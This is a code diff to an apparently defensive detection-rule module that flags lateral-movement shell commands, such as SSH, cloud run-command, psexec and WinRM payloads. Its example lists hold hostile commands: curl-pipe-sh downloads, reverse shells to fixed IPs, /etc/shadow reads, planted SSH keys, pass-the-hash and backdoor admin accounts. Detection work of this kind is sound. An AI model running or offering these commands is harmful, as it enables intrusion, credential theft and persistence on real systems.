@@ -1,12 +1,14 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
-import { optionValue } from '../shell/command-args.js';
+import { optionValue, ssmParameterScript } from '../shell/command-args.js';
 import type { SimpleCommand } from '../shell/types.js';
+import { scriptRun, toolName } from '../shell/names.js';
 import { OUTPUT_OPTIONS, printsNoContent, smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, hostRooted, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
 import { selectsNamedSettings, showsNoSecret } from './credential.js';
 import { hostileText, writes, writtenText } from './persistence.js';
+import { addsToAdminGroup } from './privilege_escalation.js';
 import { windowsTechniques } from '../knowledge/windows.js';
 
 /** The nodes of a cluster running on the developer's own machine: kind's, minikube's, k3d's, Docker Desktop's, OrbStack's, Rancher Desktop's, Colima's. */
@@ -147,6 +149,8 @@ function payloadOf(cmds: readonly Cmd[], ownKeyFed = false): string | undefined 
     if (c.name === 'etcdctl' && c.argv.includes('get')) return `dumps the cluster store: ${line}`;
     // a Windows host given a new administrator (`net localgroup administrators svc /add`)
     if ((c.name === 'net' || c.name === 'net.exe') && c.argv.some((a) => /^localgroup$/i.test(a)) && c.argv.some((a) => /^administrators$/i.test(a)) && c.argv.some((a) => /^\/add;?$/i.test(a))) return `adds an administrator: ${line}`;
+    // or a Linux one, made there and then (`useradd -m sysops; usermod -aG sudo sysops`): an account to come back through
+    if (addsToAdminGroup(c) && cmds.some((x) => (x.name === 'useradd' || x.name === 'adduser') && operands(x).at(-1) === operands(c).at(-1))) return `adds an administrator account: ${line}`;
     // a cron line, unit or logrotate rule written there with text that can be read and holds nothing hostile is
     // administration (the persistence rules judge it as they would here); unknown or hostile text is the implant
     // (what the remote side reads from its input is this user's own public key when the line feeds it one: `ssh-copy-id` by hand)
@@ -267,10 +271,8 @@ function unparsedRemote(cmd: SimpleCommand): { tool: string; cmds: Cmd[] } | und
     case 'aws': {
       // send-command's `commands=…`, and start-session's `command=…` for the interactive-command document
       if (a[1] !== 'ssm' || (a[2] !== 'send-command' && a[2] !== 'start-session')) return undefined;
-      const p = (after('--parameters') ?? '').slice(0, MAX_SCRIPT);
-      const key = a[2] === 'send-command' ? 'commands=' : 'command=';
-      const at = p.indexOf(key);
-      return at >= 0 ? { tool: `aws ssm ${a[2]}`, cmds: splitScript(ssmCommands(p.slice(at + key.length))) } : undefined;
+      const script = ssmParameterScript((after('--parameters') ?? '').slice(0, MAX_SCRIPT), a[2] === 'send-command' ? 'commands' : 'command');
+      return script !== undefined ? { tool: `aws ssm ${a[2]}`, cmds: splitScript(script) } : undefined;
     }
     case 'az': {
       const s = after('--scripts');
@@ -291,19 +293,6 @@ function unparsedRemote(cmd: SimpleCommand): { tool: string; cmds: Cmd[] } | und
     default:
       return undefined;
   }
-}
-
-/** SSM takes `commands=["a","b"]` (JSON) or `commands=a`; the script is the commands in order. */
-function ssmCommands(value: string): string {
-  if (value.startsWith('[')) {
-    try {
-      const list: unknown = JSON.parse(value);
-      if (Array.isArray(list)) return list.filter((x): x is string => typeof x === 'string').join('; ');
-    } catch {
-      return value.slice(1, value.endsWith(']') ? -1 : undefined);
-    }
-  }
-  return value;
 }
 
 /** Environment assignments a command runs with: its own prefix, an `export`, or prefix words a wrapper left in argv (`sudo VAR=x cmd`). */
@@ -392,7 +381,8 @@ function foreignKey(cmd: SimpleCommand): string | undefined {
 const SMB_EXEC = new Set(['psexec', 'psexec64', 'paexec', 'wmiexec', 'smbexec', 'atexec', 'dcomexec', 'winexe', 'pth-winexe', 'pth-wmis', 'pth-smbclient', 'csexec', 'scshell']);
 const WINRM = new Set(['evil-winrm', 'winrs', 'pwsh', 'powershell']);
 const NTLM = /^(?:[0-9a-f]{32}:)?[0-9a-f]{32}$/i;
-const normalize = (n: string) => n.slice(n.lastIndexOf('/') + 1).toLowerCase().replace(/\.(py|exe)$/, '').replace(/^impacket-/, '');
+/** The tool a command runs: itself, or the script an interpreter is given (`python3 /opt/impacket/smbexec.py …`). */
+const toolOf = (c: SimpleCommand) => scriptRun(c)?.name ?? toolName(c.name);
 
 /** The SSH client's own configuration files. */
 const SSH_CLIENT_CONFIG = /(?:^|\/)\.ssh\/config$|^\/etc\/ssh\/ssh_config(?:\.d\/[^/]+)?$/;
@@ -432,7 +422,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["cat /tmp/k.pub | ssh root@10.0.0.5 'cat >> ~/.ssh/authorized_keys'", "ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh ops@10.0.4.2 'bash -s' < /dev/shm/.x.sh", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["cat ~/.ssh/id_ed25519.pub | ssh deploy@new-vps.example.net 'mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys'", `ssh app-3 "sudo sed -i.bak 's#^REDIS_URL=.*#REDIS_URL=rediss://redis-v7.internal:6380/0#' /srv/app/.env && grep ^REDIS_URL /srv/app/.env"`, `ssh app-3 'grep -E "^REDIS_(URL|TLS)=" /srv/app/.env'`, "ssh deploy@app-01.internal 'bash -s' < scripts/provision.sh", "ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
+    examples: { fire: ["cat /tmp/k.pub | ssh root@10.0.0.5 'cat >> ~/.ssh/authorized_keys'", "ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh ops@10.0.4.2 'bash -s' < /dev/shm/.x.sh", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh web1 'sudo usermod -aG sudo alice'", "cat ~/.ssh/id_ed25519.pub | ssh deploy@new-vps.example.net 'mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys'", `ssh app-3 "sudo sed -i.bak 's#^REDIS_URL=.*#REDIS_URL=rediss://redis-v7.internal:6380/0#' /srv/app/.env && grep ^REDIS_URL /srv/app/.env"`, `ssh app-3 'grep -E "^REDIS_(URL|TLS)=" /srv/app/.env'`, "ssh deploy@app-01.internal 'bash -s' < scripts/provision.sh", "ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
@@ -450,7 +440,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
     message: 'Runs a payload on cloud instances through SSM or VM run-command', why: 'Cloud run-command executes as root on instances without SSH; attackers with IAM access use it to spread.',
     check: remotePayload(CLOUD),
-    examples: { fire: ["az vm run-command invoke -g rg-core -n dc-02 --command-id RunPowerShellScript --scripts 'net user helpdesk2 Winter2024! /add; net localgroup administrators helpdesk2 /add'", `aws ssm start-session --target i-0f1e --document-name AWS-StartInteractiveCommand --parameters command="sudo bash -c 'bash -i >& /dev/tcp/91.215.85.17/4444 0>&1'"`, `az vm run-command invoke -g rg -n dc01 --command-id RunPowerShellScript --scripts 'IEX (New-Object Net.WebClient).DownloadString("http://45.33.12.7/a.ps1")'`, "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["az vm run-command invoke -g rg-core -n web-01 --command-id RunPowerShellScript --scripts 'net localgroup administrators'", "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
+    examples: { fire: ["aws ssm send-command --instance-ids i-0abc --document-name AWS-RunShellScript --parameters 'commands=[\"useradd -m sysops; echo sysops:Passw0rd! | chpasswd; usermod -aG sudo sysops\"]'", "az vm run-command invoke -g rg-core -n dc-02 --command-id RunPowerShellScript --scripts 'net user helpdesk2 Winter2024! /add; net localgroup administrators helpdesk2 /add'", `aws ssm start-session --target i-0f1e --document-name AWS-StartInteractiveCommand --parameters command="sudo bash -c 'bash -i >& /dev/tcp/91.215.85.17/4444 0>&1'"`, `az vm run-command invoke -g rg -n dc01 --command-id RunPowerShellScript --scripts 'IEX (New-Object Net.WebClient).DownloadString("http://45.33.12.7/a.ps1")'`, "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["az vm run-command invoke -g rg-core -n web-01 --command-id RunPowerShellScript --scripts 'net localgroup administrators'", "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
   },
   {
     id: 'PX-LATERAL-005', name: 'ssh-with-foreign-key', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
@@ -466,7 +456,7 @@ export const RULES: readonly Rule[] = [
     alternative: 'Use key-based authentication, or sshpass -e with the password in the environment.',
     commands: ['sshpass'],
     test: (c) => (c.argv.some((a) => a === '-p' || (a.startsWith('-p') && a.length > 2)) ? c.argv.join(' ') : undefined),
-    examples: { fire: ['sshpass -p toor ssh root@10.0.0.7 id', "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'timeout 3 sshpass -padmin ssh admin@10.0.0.9'], quiet: ['sshpass -e ssh deploy@staging.internal uptime', 'ssh deploy@staging.internal', 'sshpass -f ~/.pw ssh me@host.internal'] },
+    examples: { fire: ["/u??/b?n/ssh?ass -p 'P@ssw0rd' ssh root@10.0.4.17 id", 'sshpass -p toor ssh root@10.0.0.7 id', "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'timeout 3 sshpass -padmin ssh admin@10.0.0.9'], quiet: ['sshpass -e ssh deploy@staging.internal uptime', 'ssh deploy@staging.internal', 'sshpass -f ~/.pw ssh me@host.internal'] },
   },
   {
     id: 'PX-LATERAL-007', name: 'ssh-sweep-over-hosts', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
@@ -571,21 +561,24 @@ export const RULES: readonly Rule[] = [
     message: 'Executes commands on a Windows host over SMB/RPC (psexec, wmiexec, smbexec, winexe)', why: 'These tools turn admin credentials into a SYSTEM shell on another machine: classic Windows lateral movement.',
     check: (i) => {
       for (const c of i.view?.commands ?? []) {
-        const n = normalize(c.name);
+        const n = toolOf(c);
         if (SMB_EXEC.has(n) && c.argv.length > 1 && !hasArg(c, '-h', '--help')) return c.argv.join(' ');
         if ((n === 'crackmapexec' || n === 'cme' || n === 'nxc' || n === 'netexec') && c.argv.some((a) => a === '-x' || a === '-X' || a === '--exec-method')) return c.argv.join(' ');
         if (n === 'wmic' && c.argv.some((a) => /^\/node:/i.test(a)) && c.argv.some((a) => /^process$/i.test(a))) return c.argv.join(' ');
+        // a service made or repointed on another machine runs its binary there as SYSTEM (`sc.exe \\10.0.0.21 create …`,
+        // one backslash left of the two once bash has read them unquoted)
+        if (n === 'sc' && /^\\{1,2}[\w.-]/.test(c.argv[1] ?? '') && /^(?:create|config)$/i.test(c.argv[2] ?? '')) return c.argv.join(' ');
       }
       return undefined;
     },
-    examples: { fire: ["psexec.py corp.local/admin:'Passw0rd!'@10.0.0.50 cmd.exe", "wmiexec.py -hashes aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c corp/Administrator@10.0.0.51 'whoami /all'", 'smbexec.py corp.local/svc_sql:Summer2023@dc01.corp.local', "crackmapexec smb 10.0.0.0/24 -u administrator -H 8846f7eaee8fb117ad06bdd830b7586c -x 'whoami'"], quiet: ['smbclient //fileserver/share -U me -c ls', 'psexec.py --help', 'grep -rn psexec docs/'] },
+    examples: { fire: ['sc.exe \\\\10.10.0.21 create WinUpdSvc binPath= "cmd /c C:\\Windows\\Temp\\u.exe" start= auto', "python3 $(command -v smbexec.py) 'corp/svc_sql:Sql2019!@10.10.0.30'", "psexec.py corp.local/admin:'Passw0rd!'@10.0.0.50 cmd.exe", "wmiexec.py -hashes aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c corp/Administrator@10.0.0.51 'whoami /all'", 'smbexec.py corp.local/svc_sql:Summer2023@dc01.corp.local', "crackmapexec smb 10.0.0.0/24 -u administrator -H 8846f7eaee8fb117ad06bdd830b7586c -x 'whoami'"], quiet: ['sc.exe \\\\10.10.0.21 query WinUpdSvc', 'smbclient //fileserver/share -U me -c ls', 'psexec.py --help', 'grep -rn psexec docs/'] },
   },
   {
     id: 'PX-LATERAL-014', name: 'winrm-remote-shell', score: 85, tactic: 'lateral_movement', technique: 'T1021.006', strong: true,
     message: 'Opens a remote shell on a Windows host over WinRM (evil-winrm, winrs, Invoke-Command)', why: 'WinRM with harvested credentials or hashes gives an interactive PowerShell on the target.',
     check: (i) => {
       for (const c of i.view?.commands ?? []) {
-        const n = normalize(c.name);
+        const n = toolOf(c);
         if (n === 'evil-winrm' && c.argv.length > 1 && !hasArg(c, '-h', '--help')) return c.argv.join(' ');
         if (n === 'winrs' && c.argv.some((a) => /^[-/]r(emote)?:/i.test(a))) return c.argv.join(' ');
         if ((n === 'crackmapexec' || n === 'nxc' || n === 'netexec' || n === 'cme') && c.argv[1] === 'winrm' && c.argv.some((a) => a === '-x' || a === '-X')) return c.argv.join(' ');
@@ -600,7 +593,7 @@ export const RULES: readonly Rule[] = [
     message: 'Authenticates with an NTLM hash instead of a password (pass-the-hash)', why: 'Logging in with a dumped hash needs no password at all; it is the signature move after credential dumping.',
     check: (i) => {
       for (const c of i.view?.commands ?? []) {
-        const n = normalize(c.name);
+        const n = toolOf(c);
         if (n.startsWith('pth-')) return c.argv.join(' ');
         for (let k = 1; k < c.argv.length && k < 128; k++) {
           const a = c.argv[k]!;
